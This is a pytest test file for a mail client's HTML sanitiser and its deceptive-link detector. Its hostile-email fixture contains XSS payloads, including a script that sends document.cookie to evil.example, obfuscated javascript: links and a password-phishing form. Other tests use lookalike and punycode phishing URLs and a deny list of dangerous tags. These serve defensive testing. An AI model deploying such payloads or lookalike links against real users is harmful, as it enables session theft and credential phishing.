"""HTML sanitising, HTML-to-text and deceptive link detection."""

from __future__ import annotations

import pytest

from mailwise_desktop.mail.html_sanitize import sanitize_html
from mailwise_desktop.mail.html_text import html_to_text
from mailwise_desktop.mail.links import LinkWarning, link_warning

pytestmark = pytest.mark.unit

HOSTILE = """<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/s.css">
<style>body { background: url(https://track.example/bg.png) }</style>
<title>Invoice</title></head>
<body onload="steal()">
<script>document.location='https://evil.example/?c='+document.cookie</script>
<iframe src="https://evil.example/frame"></iframe>
<img src="https://track.example/pixel.gif?u=42" width="1" height="1">
<img src="//track.example/p2.gif">
<img src="cid:logo%40mail.example" alt="Logo">
<img src="data:image/png;base64,iVBORw0KGgo=">
<a href="javascript:alert(1)">Pay now</a>
<a href="JaVaScRiPt&#x3a;alert(2)">Pay later</a>
<a href="vbscript:msgbox(1)">VB</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">Data</a>
<div style="background-image: url('https://track.example/css.png')">Styled text</div>
<form action="https://evil.example/post"><input type="password" name="pw"><button>Log in</button></form>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
<svg onload="alert(3)"><circle r="1"/></svg>
<p onclick="x()">請求書をご確認ください。</p>
<a href="https://bank.example.phish.test/login">https://bank.example/login</a>
</body></html>"""


def test_hostile_mail_nothing_dangerous_survives() -> None:
    result = sanitize_html(HOSTILE)
    lowered = result.html.lower()
    for forbidden in (
        "<script",
        "<iframe",
        "<form",
        "<input",
        "<object",
        "<embed",
        "<svg",
        "<meta",
        "<base",
        "<link",
        "<style",
        "style=",
        "onload",
        "onclick",
        "javascript",
        "vbscript",
        "data:",
        "url(",
        "track.example",
        "evil.example/",
        "document.cookie",
    ):
        assert forbidden not in lowered, forbidden
    assert "請求書をご確認ください。" in result.html
    assert "Styled text" in result.html
    assert result.remote_blocked == 2
    assert result.cid_refs == ("logo@mail.example",)
    # the deceptive link itself is kept (the viewer warns on click), with rel set
    assert 'href="https://bank.example.phish.test/login"' in result.html
    assert 'src="cid:logo%40mail.example"' in result.html


def test_deceptive_link_in_hostile_mail_is_flagged() -> None:
    assert (
        link_warning("https://bank.example.phish.test/login", "https://bank.example/login")
        is LinkWarning.TEXT_MISMATCH
    )


def test_remote_images_kept_when_allowed() -> None:
    html = '<p>x</p><img src="https://cdn.example/logo.png"><img src="//cdn.example/a.png">'
    blocked = sanitize_html(html)
    allowed = sanitize_html(html, allow_remote=True)
    assert blocked.remote_blocked == 2 and "cdn.example" not in blocked.html
    assert allowed.remote_blocked == 0
    assert 'src="https://cdn.example/logo.png"' in allowed.html


def test_safe_formatting_and_links_are_kept() -> None:
    html = (
        '<table border="1"><tr><td colspan="2"><b>太字</b> <i>it</i></td></tr></table>'
        '<a href="https://example.com/a?b=1">link</a> <a href="mailto:s@example.com">mail</a>'
    )
    cleaned = sanitize_html(html).html
    assert '<td colspan="2"><b>太字</b> <i>it</i></td>' in cleaned
    assert 'href="https://example.com/a?b=1"' in cleaned
    assert 'href="mailto:s@example.com"' in cleaned
    assert 'rel="noopener noreferrer"' in cleaned


def test_cid_refs_deduplicated_in_order() -> None:
    html = '<img src="cid:b@x"><img src="cid:a@x"><img src="CID:b@x">'
    assert sanitize_html(html).cid_refs == ("b@x", "a@x")


def test_html_to_text_keeps_breaks_and_drops_hidden_content() -> None:
    html = (
        "<head><title>T</title><style>.x{}</style></head>"
        "<p>一行目<br>二行目</p><ul><li>one</li><li>two</li></ul><script>bad()</script>"
        "<p>a&nbsp;&amp;&lt;b</p>"
    )
    assert html_to_text(html) == "一行目\n二行目\n\n- one\n- two\n\na\xa0&<b"


@pytest.mark.parametrize(
    ("href", "text", "expected"),
    [
        ("https://evil.example/login", "https://bank.example/login", LinkWarning.TEXT_MISMATCH),
        ("https://evil.example/", "www.bank.example", LinkWarning.TEXT_MISMATCH),
        ("https://evil.example/", "bank.co.jp", LinkWarning.TEXT_MISMATCH),
        ("https://bank.example@evil.example/", "Log in", LinkWarning.USERINFO),
        ("http://192.168.10.5/pay", "Pay", LinkWarning.IP_ADDRESS),
        ("http://3232235777/", "Pay", LinkWarning.IP_ADDRESS),
        ("http://[2001:db8::1]/", "Pay", LinkWarning.IP_ADDRESS),
        ("https://xn--80ak6aa92e.com/", "apple", LinkWarning.PUNYCODE),
        ("https://\u0430pple.com/", "apple", LinkWarning.MIXED_SCRIPTS),
        ("javascript:alert(1)", "Pay", LinkWarning.UNSAFE_SCHEME),
        ("file:///C:/Windows/calc.exe", "calc", LinkWarning.UNSAFE_SCHEME),
        ("http://[broken/", "x", LinkWarning.MALFORMED),
    ],
)
def test_link_warnings(href: str, text: str, expected: LinkWarning) -> None:
    assert link_warning(href, text) is expected


@pytest.mark.parametrize(
    ("href", "text"),
    [
        ("https://www.example.com/a", "example.com"),
        ("https://example.com/a", "www.example.com"),
        ("https://support.bank.example/help", "bank.example"),
        ("https://example.com/report.pdf", "report.pdf"),
        ("https://example.com/", "Click here"),
        ("mailto:support@example.com", "support@example.com"),
        ("https://日本語.jp/", "日本語.jp"),
        ("#section-2", "Section 2"),
    ],
)
def test_honest_links_pass(href: str, text: str) -> None:
    assert link_warning(href, text) is None


def test_link_warnings_are_plain_strings_for_the_ui() -> None:
    warning = link_warning("http://10.0.0.1/", "x")
    assert isinstance(warning, str)
    assert len({member.value for member in LinkWarning}) == len(LinkWarning)


def test_normalize_href_is_one_form_for_every_spelling() -> None:
    from mailwise_desktop.mail.links import normalize_href

    assert normalize_href("HTTPS://EVIL.example/%7efoo%2f") == "https://evil.example/~foo%2F"
    assert normalize_href("https://User@Bank.COM/") == "https://User@bank.com/"
    assert link_warning("HTTPS://evil.example/", "https://bank.com/") is LinkWarning.TEXT_MISMATCH
